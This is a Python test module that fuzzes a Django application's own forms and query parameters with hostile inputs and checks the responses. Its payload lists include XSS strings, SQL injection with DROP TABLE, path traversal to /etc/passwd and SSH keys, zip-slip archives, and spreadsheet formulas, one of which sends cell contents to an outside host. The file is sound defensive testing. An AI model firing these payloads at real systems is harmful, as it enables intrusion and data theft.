"""What somebody hostile, or a broken browser, may send to a page: its own form, filled in to do harm."""

import csv
import io
import random
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote_from_bytes, quote_plus

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

MARK = "teranga-hostile"
SCRIPTS = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror="{MARK}()">',
    f"'-{MARK}()-'",
    f"javascript:{MARK}()",
    f"</textarea><svg onload={MARK}()>",
    f"{{{{ {MARK}|safe }}}}{{% include '/etc/passwd' %}}",
)
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", '=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0")
PATHS = ("../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd\x00.pdf", "file:///etc/passwd", "~root/.ssh/id_rsa")
TEXTS = (
    *SCRIPTS,
    *FORMULAS,
    *PATHS,
    "' OR 1=1; DROP TABLE casework_case; --",
    "%s%n%(name)s{0.__class__}${7*7}",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: a=b",
    "A" * 70_000,
    "\u202eevil\u2066",
    "\ufeff\u200b\u0000",
    "é" * 300,
    "🂡" * 50,
    "َُِّ" * 200,
    "ﷺ",
    " ",
    "",
    "null",
    "[]",
    '{"a":1}',
)
NUMBERS = (
    "-1",
    "0",
    "1e999",
    "NaN",
    "Infinity",
    "9" * 400,
    "1_000",
    "٣",
    "0x10",
    "1,5",
    "-0.0",
    "1e-400",
    "2147483648",
)
DAYS = (
    "0000-00-00",
    "9999-12-31",
    "2026-02-30",
    "0001-01-01",
    "١٢/٠٣/١٩٩٦",
    "31/12/99999",
    "2026-13-01",
    "-1",
    "17 ans",
)
IDS = ("00000000-0000-0000-0000-000000000000", "not-a-uuid", "-1", "1;2", "ffffffff-ffff-ffff-ffff-ffffffffffff")
COUNTS = ("99999999", "-5", "x", "", "1e9", "0")
QUERY = (
    "page",
    "sort",
    "format",
    "q",
    "year",
    "stage",
    "next",
    "office",
    "from",
    "to",
    "sex",
    "age",
    "category",
    "seen",
)


@dataclass
class Field:
    """A field of a form as the page offers it."""

    name: str
    kind: str
    value: str = ""
    options: list[str] = field(default_factory=list)


class Forms(HTMLParser):
    """The fields of every form of a page that is sent by POST, and the names of those sent by GET."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: dict[str, Field] = {}
        self.asked: set[str] = set()
        self.posts = False
        self.choosing: Field | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.posts = given.get("method", "get").lower() == "post"
        elif tag in {"input", "select", "textarea"} and given.get("name"):
            self._field(tag, given)
        elif tag == "option" and self.choosing is not None:
            self.choosing.options.append(given.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self.choosing = None

    def _field(self, tag: str, given: dict[str, str]) -> None:
        name = given["name"]
        if not self.posts:
            self.asked.add(name)
            return
        kind = given.get("type", "text") if tag == "input" else tag
        known = self.fields.setdefault(name, Field(name, kind, given.get("value", "")))
        if kind in {"radio", "checkbox"}:
            known.options.append(given.get("value", "on"))
        self.choosing = known if tag == "select" else self.choosing


def forms_of(page: str) -> Forms:
    found = Forms()
    found.feed(page)
    return found


def plausible(asked: Field, chance: random.Random) -> Any:
    """What an honest person may have answered."""
    if asked.options:
        return chance.choice([each for each in asked.options if each] or asked.options)
    if asked.kind == "hidden":
        return asked.value
    if asked.kind == "file":
        return a_file(chance, honest=True)
    return {"date": "2026-11-20", "number": "1", "email": f"x{chance.randrange(10**9)}@example.org"}.get(
        asked.kind, asked.value or chance.choice(["Awa", "2026-11-20", "12", "Une raison suffisante"])
    )


def harmful(asked: Field, chance: random.Random) -> Any:
    """What does not belong there."""
    if asked.kind == "file":
        return a_file(chance, honest=False)
    if asked.name.endswith(("TOTAL_FORMS", "INITIAL_FORMS", "MAX_NUM_FORMS", "-rows")):
        return chance.choice(COUNTS)
    pools = {"date": DAYS, "number": NUMBERS, "hidden": IDS}
    return chance.choice(chance.choice([TEXTS, pools.get(asked.kind, TEXTS), NUMBERS, DAYS, IDS]))


def a_file(chance: random.Random, *, honest: bool) -> SimpleUploadedFile:
    name = "liste.csv" if honest else chance.choice([*PATHS, "x.pdf", "a" * 300 + ".csv", "<script>.xlsx", ""]) or "x"
    content = b"Nom;Sexe\nBa;F\n" if honest else chance.choice(FILES)
    return SimpleUploadedFile(
        name.replace("\x00", ""), content, content_type=chance.choice(["text/csv", "image/png", "x/y"])
    )


def _zip(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as parts:
        parts.writestr(name, b"<x/>")
    return out.getvalue()


FILES = (
    b"",
    b"\x00" * 500,
    b"%PDF-1.7 not really",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
    b"\xff\xd8\xff\xe0 not a photograph",
    b"GIF89a/*" + SCRIPTS[0].encode(),
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    _zip("../../evil"),
    _zip("xl/workbook.xml"),
    ("Nom;Sexe\n" + "\n".join(f"{text};F" for text in FORMULAS + SCRIPTS)).encode(),
    "Nom\nÉlodie".encode("utf-16"),
    b'"' * 3000,
)


def filled(form: Forms, chance: random.Random) -> dict[str, Any]:
    """The form with a few answers that do not belong there: one to three of them, now and then all; some left out."""
    names = list(form.fields)
    bad = set(names) if chance.random() < 0.1 else set(chance.sample(names, min(len(names), chance.randint(1, 3))))
    out: dict[str, Any] = {}
    for name, asked in form.fields.items():
        if chance.random() < 0.04:
            continue
        value = harmful(asked, chance) if name in bad else plausible(asked, chance)
        out[name] = [value, value] if chance.random() < 0.03 and isinstance(value, str) else value
    if chance.random() < 0.05:
        out[chance.choice(["is_superuser", "id", "stage", "__proto__", "a" * 500])] = "1"
    return out


@dataclass(frozen=True)
class Answer:
    """What a page said to one hostile input."""

    path: str
    sent: Any
    status: int
    text: str
    content_type: str

    @property
    def wrong(self) -> str:
        """Why this must not be; empty when it may."""
        if self.status >= 500:
            return f"{self.status} on {self.path}: {str(self.sent)[:400]}"
        if self.content_type.startswith("text/html") and runs(self.text):
            return f"what was sent would run on {self.path}: {str(self.sent)[:400]}"
        if self.content_type.startswith("text/csv") and calculates(self.text):
            return f"what was sent would be calculated by a spreadsheet: {self.path}"
        return ""


def runs(page: str) -> bool:
    """Whether one of our scripts stands in the page as markup, instead of as words."""
    return any(
        each in page for each in (f"<script>{MARK}", f'onerror="{MARK}', f"<svg onload={MARK}", 'href="javascript:')
    )


def calculates(sheet: str) -> bool:
    """Whether one of our formulas begins a cell."""
    return any(cell.startswith(FORMULAS) for row in csv.reader(io.StringIO(sheet)) for cell in row)


def post(client: Client, path: str, chance: random.Random, form: Forms) -> Answer:
    sent = filled(form, chance)
    if chance.random() < 0.03:
        return _said(path, "raw bytes", client.generic("POST", path, b"\xff%FF=%FF&a=%00&=&" * 20, RAW))
    return _said(path, sent, client.post(path, sent))


RAW = "application/x-www-form-urlencoded"


def get(client: Client, path: str, chance: random.Random, form: Forms) -> Answer:
    names = sorted({*form.asked, *QUERY})
    asked = [(chance.choice(names), chance.choice([*TEXTS, *NUMBERS, *IDS, "csv", "xlsx", "-name"])) for _ in range(2)]
    query = "&".join(f"{quote_plus(name)}={quote_plus(value[:2000])}" for name, value in asked)
    if chance.random() < 0.1:
        query += "&q=" + quote_from_bytes(bytes(chance.randrange(256) for _ in range(12)))
    headers = {"HX-Request": "true"} if chance.random() < 0.2 else {}
    return _said(path, query, client.get(f"{path}?{query}", headers=headers))


def attacks(client: Client, path: str, chance: random.Random, many: int) -> Iterator[Answer]:
    """So many hostile inputs to one page, each from the form as it was shown."""
    form = forms_of(_said(path, "", client.get(path)).text)
    for _ in range(many):
        yield (post if form.fields and chance.random() < 0.75 else get)(client, path, chance, form)


def _said(path: str, sent: Any, response: Any) -> Answer:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    kind = response.headers.get("Content-Type", "")
    return Answer(path, sent, response.status_code, content.decode(errors="replace") if "text" in kind else "", kind)
